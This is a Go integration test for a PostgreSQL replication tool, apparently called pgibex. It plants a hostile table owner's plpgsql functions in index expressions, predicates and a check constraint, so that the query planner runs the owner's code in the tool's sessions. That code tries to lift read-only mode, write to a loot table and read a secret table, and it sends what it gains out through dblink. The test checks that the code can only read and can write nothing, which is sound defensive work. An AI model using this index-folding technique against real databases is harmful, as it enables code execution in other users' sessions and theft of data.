package integration

import (
	"net/url"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/pgibex/pgibex/internal/pg"
)

// foldedSchema: an index over an immutable wrapper with constant arguments, as an expression and as a predicate.
const foldedSchema = `CREATE TABLE keyed (id int PRIMARY KEY, v text); CREATE TABLE texts (k text COLLATE "C" PRIMARY KEY, v text);
	CREATE TABLE keyless (a int, v text); CREATE TABLE secret (id int PRIMARY KEY, v text);`

// attack makes the owner of the tables but secret run code in our sessions: while one of our statements is planned, the planner folds the call
// in his index. What the code gains is written to evil.told in a transaction of its own.
const attack = `CREATE EXTENSION dblink;
	CREATE ROLE folding_attacker; CREATE ROLE folding_other; CREATE SCHEMA evil AUTHORIZATION folding_attacker; GRANT USAGE ON SCHEMA evil TO PUBLIC;
	CREATE TABLE evil.told (at text, query text, ro text, wrote text, stayed text, secret text); CREATE TABLE evil.loot (v text); GRANT INSERT ON evil.loot TO PUBLIC;
	CREATE FUNCTION evil.tell(text[]) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN
		PERFORM public.dblink_exec({{dsn}}, format('INSERT INTO evil.told VALUES (%L, %L, %L, %L, %L, %L)', $1[1], $1[2], $1[3], $1[4], $1[5], $1[6])); END $f$;
	CREATE FUNCTION evil.code(text) RETURNS int LANGUAGE plpgsql AS $f$
	DECLARE wrote text := 'wrote'; stayed text := 'no'; secret text := 'no'; unlocked text := 'on';
	BEGIN
		IF session_user <> {{role}} THEN RETURN 1; END IF;
		BEGIN PERFORM set_config('transaction_read_only', 'off', false); EXCEPTION WHEN OTHERS THEN unlocked := SQLSTATE; END;
		BEGIN INSERT INTO evil.loot VALUES (current_user); EXCEPTION WHEN OTHERS THEN wrote := SQLSTATE; END;
		BEGIN stayed := CASE current_setting('evil.mark') WHEN transaction_timestamp()::text THEN 'no' WHEN '' THEN 'no' ELSE 'stayed' END; EXCEPTION WHEN undefined_object THEN NULL; END;
		PERFORM set_config('evil.mark', transaction_timestamp()::text, false);
		BEGIN SELECT v INTO secret FROM public.secret LIMIT 1; EXCEPTION WHEN OTHERS THEN secret := SQLSTATE; END;
		PERFORM evil.tell(ARRAY[$1, current_query(), current_setting('transaction_read_only'), wrote, stayed, secret]);
		RETURN 1;
	END $f$;
	CREATE FUNCTION evil.wrap(text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RETURN evil.code($1); END $f$;
	CREATE INDEX evil_1 ON keyed (id, (evil.wrap('expression'))); CREATE INDEX evil_2 ON texts (k) WHERE evil.wrap('predicate') > 0;
	CREATE INDEX evil_3 ON keyless (a, (evil.wrap('expression')));
	ALTER TABLE keyed ADD CHECK (evil.wrap('check') > 0); ALTER DATABASE {{database}} SET constraint_exclusion = on;
	ALTER TABLE keyed OWNER TO folding_attacker; ALTER TABLE texts OWNER TO folding_attacker; ALTER TABLE keyless OWNER TO folding_attacker;
	ALTER TABLE secret OWNER TO folding_other; INSERT INTO secret VALUES (1, 'the secret');
	CREATE ROLE {{ident}} LOGIN; GRANT folding_attacker, folding_other TO {{ident}}; GRANT CREATE ON DATABASE {{database}} TO {{ident}};`

// TestTheOwnerOfASourceTable runs code in our sessions, which nothing can prevent: the planner does it. It can read what pgibex can, but writes
// nothing, and nothing that it sets outlives our transaction. Membership in the owners is needed to install alone; what is read after that
// is what pgibex was granted.
func TestTheOwnerOfASourceTable(t *testing.T) {
	t.Parallel()
	s := newStream(t, foldedSchema)
	const role = "folding_pgibex"
	s.src(pg.Fill(attack, "dsn", pg.Literal(s.sourceDSN), "role", pg.Literal(role), "ident", pg.Ident(role),
		"database", pg.Ident(one[string](s, s.sourceDSN, "SELECT current_database()::text"))))
	s.t.Cleanup(func() {
		s.cleanUp(s.sourceDSN, "DROP OWNED BY folding_pgibex, folding_attacker, folding_other CASCADE; DROP ROLE folding_pgibex, folding_attacker, folding_other")
	})
	s.src(`INSERT INTO keyed SELECT g, repeat('v', 500) FROM generate_series(1, 500) g; INSERT INTO texts SELECT 'k' || g, repeat('v', 500) FROM generate_series(1, 500) g;
		INSERT INTO keyless SELECT g % 5, 'v' FROM generate_series(1, 100) g; ANALYZE keyed; ANALYZE texts`)
	s.config.Source.DSN = with(t, s.sourceDSN, func(u *url.URL) { u.User = url.User(role) })
	s.config.Copy.ChunkSize = 64 << 10
	s.config.Tables.Exclude = []string{"evil.*", "public.secret"}
	remember := s.forgetting("evil_1", "evil_2", "evil_3")
	stop := s.run()
	s.readInBatches()
	s.dst(`SET session_replication_role = replica; INSERT INTO keyed VALUES (99999, 'only here'); DELETE FROM keyed WHERE id < 10;
		UPDATE keyed SET v = 'foreign' WHERE id = 20; INSERT INTO texts VALUES ('only', 'here')`)
	s.readByVerify()
	if _, err := s.replicator().Resync(t.Context(), []string{"public.keyed", "public.texts"}, false); err != nil {
		t.Fatal(err)
	}
	s.resynced("public.keyed", "public.texts")
	stop()
	remember()
	var seen []string // in which of them a session did not remember the index from before is luck
	for what, like := range planned {
		if one[int](s, s.sourceDSN, "SELECT count(*)::int FROM evil.told WHERE query LIKE $1", like) > 0 {
			seen = append(seen, what)
		}
	}
	if len(seen) < len(planned)/2 {
		t.Errorf("the planner ran something of the owner's only for: %v", seen)
	}
	s.onlyRead("the secret")

	s.src("DELETE FROM evil.told; REVOKE folding_attacker, folding_other FROM folding_pgibex; GRANT SELECT ON keyed, texts, keyless TO folding_pgibex")
	remember = s.forgetting("evil_1", "evil_2", "evil_3")
	stop = s.run()
	s.readInBatches()
	s.readByVerify()
	stop()
	remember()
	s.onlyRead("42501") // it has no right to the secret
}

// planned are our statements that name a table of the users on the source, each by what tells it apart.
var planned = map[string]string{
	"batch":               "%coalesce(t.%LEFT JOIN ONLY%",
	"image":               "%md5(ROW(%keyless%",
	"sums":                "%max(k)::bigint%",
	"rows of a range":     "%SELECT k::bigint, h%",
	"columns that differ": "%ARRAY[md5(%",
	"staged":              "COPY (SELECT t.\"k\"%",
	"index against heap":  "%IS FALSE)%",
	"sweep":               "SELECT g.n FROM%WHERE t.ctid IS NULL%",
	"repair":              "COPY (SELECT true%",
}

func (s *stream) readInBatches() {
	s.t.Helper()
	s.streaming()
	s.src("UPDATE keyed SET v = v || 'w' WHERE id % 100 = 0; UPDATE texts SET v = v || 'w' WHERE k LIKE '%00'; INSERT INTO keyless VALUES (7, 'x')")
	s.streaming()
}

func (s *stream) readByVerify() {
	s.t.Helper()
	results, err := s.replicator().Verify(s.t.Context(), nil)
	if err != nil {
		s.t.Fatal(err)
	}
	for _, r := range results {
		if r.Skipped != "" {
			s.t.Errorf("%s was not compared: %s", r.Name, r.Skipped)
		}
	}
}

// onlyRead judges what the owner's code was able to do, and that the stream is none the worse for it.
func (s *stream) onlyRead(secret string) {
	s.t.Helper()
	for _, table := range []string{"public.keyed", "public.texts", "public.keyless"} {
		s.equalTable(table)
	}
	if one[int](s, s.sourceDSN, "SELECT count(*)::int FROM evil.told") == 0 {
		s.t.Error("the planner ran nothing of the owner's")
	}
	for _, did := range s.rows(s.sourceDSN, `SELECT DISTINCT left(query, 150), at, ro, wrote, stayed, secret FROM evil.told
		WHERE (ro, wrote, stayed, secret) <> ('on', '25006', 'no', `+pg.Literal(secret)+`) OR at = 'check'`) {
		s.t.Errorf("the owner's code did more than read: %s", did)
	}
}

// forgetting has the server forget what it knows of the indexes, all the time: a session folds their expressions once, as long as it knows them.
func (s *stream) forgetting(indexes ...string) (stop func()) {
	s.t.Helper()
	conn := s.connect(s.sourceDSN)
	ended, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-ended:
				return
			case <-time.After(time.Millisecond):
			}
			_, _ = conn.Exec(s.t.Context(), "UPDATE pg_class SET reltuples = reltuples WHERE relname = ANY ($1)", pgx.QueryExecModeExec, indexes)
		}
	}()
	return func() {
		close(ended)
		<-done
	}
}
